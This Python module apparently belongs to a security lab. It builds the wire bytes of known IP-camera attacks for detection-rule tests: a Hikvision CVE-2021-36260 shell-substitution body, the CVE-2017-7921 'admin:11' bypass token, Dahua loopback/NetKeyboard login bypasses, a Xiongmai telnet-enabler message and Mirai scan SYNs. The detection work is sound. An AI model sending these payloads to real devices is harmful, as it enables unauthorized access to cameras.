"""What attacks on cameras look like on the wire: request builders for the lab's attacker and infected DVR,
and for the tests of the attack rules (``exploit.attempt``, ``auth.*``, ``device.scanning``,
``device.telnet``).

The shapes follow the public descriptions of each vulnerability (vendor advisories, the researchers'
disclosures, published scanner templates), written here from those descriptions:

- Hikvision CVE-2021-36260: ``PUT /SDK/webLanguage`` with an XML body whose ``<language>`` value holds
  a shell command substitution (watchfulip.github.io, 2021-09-18);
- Hikvision CVE-2017-7921: any ISAPI path with ``?auth=`` and Base64 of ``admin:11`` (ICSA-17-124-01
  and the public proof of concept);
- Dahua CVE-2021-33044 / CVE-2021-33045: a ``global.login`` JSON-RPC call with ``clientType:
  NetKeyboard``, or ``loginType: Loopback`` with ``clientType: Local`` and ``ipAddr: 127.0.0.1``
  (bashis, Full Disclosure, October 2021), over HTTP ``/RPC2_Login`` or DHIP on tcp/37777;
- Xiongmai tcp/9530: ``OpenTelnet:OpenOnce`` with a leading length byte (Yarmak, 2020);
- ONVIF WS-UsernameToken (ONVIF Core 5.12, OASIS WSS UsernameToken Profile 1.0): ``PasswordDigest =
  Base64(SHA-1(nonce + created + password))``; CVE-2022-30563 is such a token sent again;
- Mirai: TCP SYNs whose sequence number is the destination address, to tcp/23 and 2323 (the published
  Mirai source, ``scanner.c``).
"""

from __future__ import annotations

import base64
import hashlib
import ipaddress
import json
import struct
from typing import Any

from lab import synth

__all__ = [
    "AUTH_BYPASS_TOKEN",
    "basic_auth",
    "dhip_login",
    "digest_auth_header",
    "enabler_message",
    "http_request",
    "http_response",
    "mirai_syn",
    "onvif_request",
    "rpc_login_body",
    "ws_username_token",
]

#: The published CVE-2017-7921 token: Base64 of "admin:11".
AUTH_BYPASS_TOKEN = base64.b64encode(b"admin:11").decode()


def basic_auth(user: str, password: str) -> str:
    """An ``Authorization: Basic`` value."""
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


def digest_auth_header(user: str, realm: str, nonce: str, uri: str, response: str = "0" * 32) -> str:
    """An ``Authorization: Digest`` value (the response hash is not checked by anyone here)."""
    return f'Digest username="{user}", realm="{realm}", nonce="{nonce}", uri="{uri}", response="{response}"'


def http_request(
    method: str,
    target: str,
    host: str,
    *,
    body: bytes = b"",
    content_type: str | None = None,
    authorization: str | None = None,
    extra: str = "",
) -> bytes:
    """An HTTP/1.1 request."""
    head = f"{method} {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\n"
    if authorization is not None:
        head += f"Authorization: {authorization}\r\n"
    if content_type is not None:
        head += f"Content-Type: {content_type}\r\n"
    if body or method in ("POST", "PUT"):
        head += f"Content-Length: {len(body)}\r\n"
    return (head + extra + "\r\n").encode() + body


def http_response(
    status: int,
    body: bytes = b"",
    *,
    reason: str = "",
    content_type: str = "text/html",
    server: str = "App-webs/",
    extra: str = "",
) -> bytes:
    """An HTTP/1.1 response with a Content-Length."""
    reason = reason or {200: "OK", 401: "Unauthorized", 403: "Forbidden", 404: "Not Found", 500: "Error"}.get(
        status, "Status"
    )
    return (
        f"HTTP/1.1 {status} {reason}\r\nServer: {server}\r\nContent-Type: {content_type}\r\n"
        f"Content-Length: {len(body)}\r\n{extra}\r\n"
    ).encode() + body


def weblanguage_body(command: str) -> bytes:
    """The XML of a CVE-2021-36260 request: the command in a shell substitution inside ``<language>``."""
    return f'<?xml version="1.0" encoding="UTF-8"?><language>$({command})</language>'.encode()


def rpc_login_body(
    user: str, *, client_type: str = "Web3.0", login_type: str = "Direct", **extra: Any
) -> bytes:
    """A Dahua ``global.login`` JSON-RPC call (``extra``: more params, e.g. ``password``, ``ipAddr``)."""
    params: dict[str, Any] = {
        "userName": user,
        "password": "",
        "clientType": client_type,
        "loginType": login_type,
    }
    params.update(extra)
    return json.dumps({"method": "global.login", "params": params, "id": 1, "session": 0}).encode()


def dhip_login(body: bytes, session: int = 0, request_id: int = 1) -> bytes:
    """A JSON-RPC body in a DHIP frame (tcp/37777): 32-byte header, then the JSON."""
    return struct.pack("<I4sIIIIII", 32, b"DHIP", session, request_id, len(body), 0, len(body), 0) + body


def enabler_message(text: str) -> bytes:
    """A telnet-enabler message: a length byte (the text, its NUL and the byte itself), the text, a NUL."""
    data = text.encode() + b"\x00"
    return bytes([len(data) + 1]) + data


def ws_username_token(user: str, password: str, nonce: bytes, created: str) -> str:
    """A WS-Security header with a PasswordDigest UsernameToken (OASIS UsernameToken Profile 1.0)."""
    digest = base64.b64encode(hashlib.sha1(nonce + created.encode() + password.encode()).digest()).decode()
    return (
        '<s:Header><wsse:Security xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/'
        'oasis-200401-wss-wssecurity-secext-1.0.xsd" xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/'
        'oasis-200401-wss-wssecurity-utility-1.0.xsd"><wsse:UsernameToken>'
        f"<wsse:Username>{user}</wsse:Username>"
        '<wsse:Password Type="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0'
        f'#PasswordDigest">{digest}</wsse:Password>'
        '<wsse:Nonce EncodingType="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0'
        f'#Base64Binary">{base64.b64encode(nonce).decode()}</wsse:Nonce>'
        f"<wsu:Created>{created}</wsu:Created></wsse:UsernameToken></wsse:Security></s:Header>"
    )


def onvif_request(host: str, header: str = "", action: str = "GetDeviceInformation") -> bytes:
    """An ONVIF device-service SOAP request (``header``: a WS-Security header, or none)."""
    body = (
        '<?xml version="1.0" encoding="UTF-8"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope">'
        f'{header}<s:Body><{action} xmlns="http://www.onvif.org/ver10/device/wsdl"/></s:Body></s:Envelope>'
    ).encode()
    return http_request(
        "POST", "/onvif/device_service", host, body=body, content_type="application/soap+xml; charset=utf-8"
    )


ONVIF_NOT_AUTHORIZED = (
    b'<?xml version="1.0" encoding="UTF-8"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" '
    b'xmlns:ter="http://www.onvif.org/ver10/error"><s:Body><s:Fault><s:Code><s:Value>s:Sender</s:Value>'
    b'<s:Subcode><s:Value>ter:NotAuthorized</s:Value></s:Subcode></s:Code><s:Reason><s:Text xml:lang="en">'
    b"Sender not authorized</s:Text></s:Reason></s:Fault></s:Body></s:Envelope>"
)


def mirai_syn(smac: str, dmac: str, src: str, dst: str, sport: int, dport: int = 23) -> bytes:
    """A Mirai scanner's SYN: its sequence number is the destination address."""
    seq = int(ipaddress.IPv4Address(dst))
    return synth.tcp4_frame(smac, dmac, src, dst, sport, dport, flags=synth.TCP_SYN, seq=seq)
